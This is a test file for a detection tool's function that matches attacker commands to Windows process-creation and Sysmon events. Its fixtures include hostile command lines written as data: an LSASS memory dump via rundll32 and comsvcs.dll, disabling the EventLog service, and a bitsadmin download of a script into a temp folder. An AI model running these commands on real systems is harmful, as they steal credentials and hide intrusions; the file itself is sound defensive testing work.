import { describe, expect, it } from 'vitest';
import { extractAttackerCommands } from '../metadata/attacker-commands.ts';
import { mapRaw } from '../testing/map-records.ts';
import type { RawRecord } from '../testing/windows-events.ts';
import {
  guid,
  powershellEvent,
  sysmonEvent,
  sysmonProcessCreate,
} from '../testing/windows-events.ts';
import { placeThreat } from './place-threat.ts';

const CMD = 'C:\\Windows\\System32\\cmd.exe';

function place(raws: RawRecord[], view: string) {
  const run = mapRaw(raws);
  const events = run.mapped.map((mapped, index) => ({
    event: { 'event.id': String(index + 1), 'event.type': mapped.type, ...mapped.fields },
    mapped,
  }));
  return placeThreat({
    events,
    commands: extractAttackerCommands(view),
    parentOf: (node) => run.table.parentOf(node),
  });
}

function create(n: number, image: string, commandLine: string, parent: number) {
  return sysmonProcessCreate({
    utc: `2024-03-01 10:00:${String(n).padStart(2, '0')}.000`,
    processGuid: guid(n),
    pid: n * 100,
    image,
    commandLine,
    parentGuid: guid(parent),
    parentPid: parent * 100,
    parentImage: parent === 1 ? 'C:\\Windows\\explorer.exe' : CMD,
  });
}

describe('placeThreat', () => {
  it('picks the process whose command line matches the attacker command', () => {
    const placement = place(
      [
        create(2, CMD, 'cmd.exe /c echo hello', 1),
        create(
          3,
          'C:\\Windows\\System32\\bitsadmin.exe',
          'bitsadmin.exe /transfer /Download https://x.example/T1197.md C:\\Users\\a\\AppData\\Local\\Temp\\flag.ps1',
          2,
        ),
        create(4, 'C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\Users\\a\\flag.txt', 1),
      ],
      'bitsadmin.exe /transfer /Download https://x.example/T1197.md %temp%\\flag.ps1',
    );

    expect(placement?.method).toBe('adversary_view');
    expect(placement?.process.name).toBe('bitsadmin.exe');
    expect(placement?.event['event.id']).toBe('2');
    expect(placement?.command?.text).toContain('bitsadmin.exe /transfer');
  });

  it('prefers the program the command names over a cmd /c wrapper', () => {
    const placement = place(
      [
        create(2, CMD, 'cmd.exe /c sc.exe \\\\DC01 query ikeext', 1),
        create(3, 'C:\\Windows\\System32\\sc.exe', 'sc.exe \\\\DC01 query ikeext', 2),
      ],
      'sc.exe \\\\DC01 query ikeext',
    );

    expect(placement?.process.name).toBe('sc.exe');
  });

  it('lets the more malicious of two matched commands carry the threat', () => {
    const placement = place(
      [
        create(2, CMD, 'cmd.exe', 1),
        create(3, 'C:\\Windows\\System32\\whoami.exe', 'whoami /groups', 2),
        create(
          4,
          'C:\\Windows\\System32\\rundll32.exe',
          'rundll32.exe C:\\windows\\System32\\comsvcs.dll MiniDump 628 C:\\Temp\\l.dmp full',
          2,
        ),
      ],
      'C:\\Users\\x>whoami /groups\nC:\\Users\\x>rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 628 C:\\Temp\\l.dmp full',
    );

    expect(placement?.process.name).toBe('rundll32.exe');
    expect(placement?.related.map((node) => node.name)).toEqual(['whoami.exe']);
  });

  it('moves a threat found in a script onto the creation of the process that ran it', () => {
    const placement = place(
      [
        create(
          2,
          'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          'powershell.exe -nop',
          1,
        ),
        powershellEvent(4104, {
          timeCreated: '2024-03-01 10:00:05.000',
          ExecutionProcessID: 200,
          ScriptBlockText: 'Set-Service -Name EventLog -StartupType Disabled',
        }),
      ],
      'PS C:\\> Set-Service -Name EventLog -StartupType Disabled',
    );

    expect(placement?.method).toBe('adversary_view');
    expect(placement?.mapped.type).toBe('Process Creation');
    expect(placement?.event['event.id']).toBe('1');
    expect(placement?.process.name).toBe('powershell.exe');
  });

  it('falls back to the most suspicious activity when no command matches', () => {
    const placement = place(
      [
        create(2, 'C:\\Windows\\System32\\notepad.exe', 'notepad.exe', 1),
        sysmonEvent(10, {
          utc: '2024-03-01 10:00:09.000',
          SourceProcessGUID: guid(9),
          SourceProcessId: '900',
          SourceImage: 'C:\\Users\\a\\Downloads\\tool.exe',
          TargetProcessGUID: guid(8),
          TargetImage: 'C:\\Windows\\System32\\lsass.exe',
          GrantedAccess: '0x1010',
        }),
      ],
      'RDP to the victim and open Task Manager',
    );

    expect(placement?.method).toBe('heuristic');
    expect(placement?.process.name).toBe('tool.exe');
    expect(placement?.suspicion.reasons).toEqual([
      'runs from a user-writable folder',
      'opened LSASS memory',
    ]);
  });

  it('takes the first process creation when nothing stands out', () => {
    const placement = place(
      [
        create(2, 'C:\\Windows\\System32\\notepad.exe', 'notepad.exe', 1),
        create(3, 'C:\\Windows\\System32\\calc.exe', 'calc.exe', 1),
      ],
      '',
    );

    expect(placement?.method).toBe('heuristic');
    expect(placement?.score).toBe(0);
    expect(placement?.process.name).toBe('notepad.exe');
  });

  it('places nothing without events', () => {
    expect(placeThreat({ events: [], commands: [], parentOf: () => undefined })).toBeUndefined();
  });
});
